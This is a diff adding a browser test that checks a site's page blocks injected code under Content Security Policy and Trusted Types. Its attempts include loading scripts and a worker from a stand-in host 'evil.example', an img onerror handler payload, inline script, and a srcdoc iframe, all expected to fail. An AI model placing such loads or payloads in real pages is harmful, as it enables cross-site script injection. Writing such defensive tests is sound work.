@@ -1,0 +1,48 @@
+import { expect, open, test } from './test';
+
+/** What a remote that turned hostile would try, in a page of the composed site. */
+
+test.use({ allowed: /Trusted|Content.Security.Policy/i });
+
+test('code of the page gets no script from elsewhere and no element from a string', async ({ page }) => {
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await open(page, '/buy-food');
+  const outcomes = await page.evaluate(() => {
+    const { trustedTypes } = window as unknown as {
+      trustedTypes: { createPolicy(name: string, policy: object): void };
+    };
+    const tried: Record<string, () => unknown> = {
+      'a script of another origin': () => {
+        document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }));
+      },
+      'a script of the own machine': () => {
+        document.head.append(Object.assign(document.createElement('script'), { src: 'http://localhost:4999/x.js' }));
+      },
+      'an element with a handler': () => {
+        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.broken = 1">');
+      },
+      'a script of its own text': () => {
+        document.head.append(Object.assign(document.createElement('script'), { text: 'window.broken = 1' }));
+      },
+      'a frame of its own text': () => {
+        document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>1</script>' }));
+      },
+      'a worker from elsewhere': () => new Worker('https://evil.example/x.js'),
+      'code from a string': () => setTimeout('window.broken = 1'),
+      'a policy of its own': () => trustedTypes.createPolicy('mine', {}),
+      'the one policy again': () => trustedTypes.createPolicy('default', {}),
+    };
+    return Object.entries(tried).map(([what, attempt]) => {
+      try {
+        attempt();
+        return `${what} came through`;
+      } catch (error) {
+        return `${what}: ${(error as Error).name}`;
+      }
+    });
+  });
+  expect(outcomes.filter((outcome) => !/: (?:Type|Eval|Security)Error$/.test(outcome))).toEqual([]);
+  expect(await page.evaluate(() => 'broken' in window)).toBe(false);
+  expect(asked.filter((url) => /evil|4999/.test(url))).toEqual([]);
+});
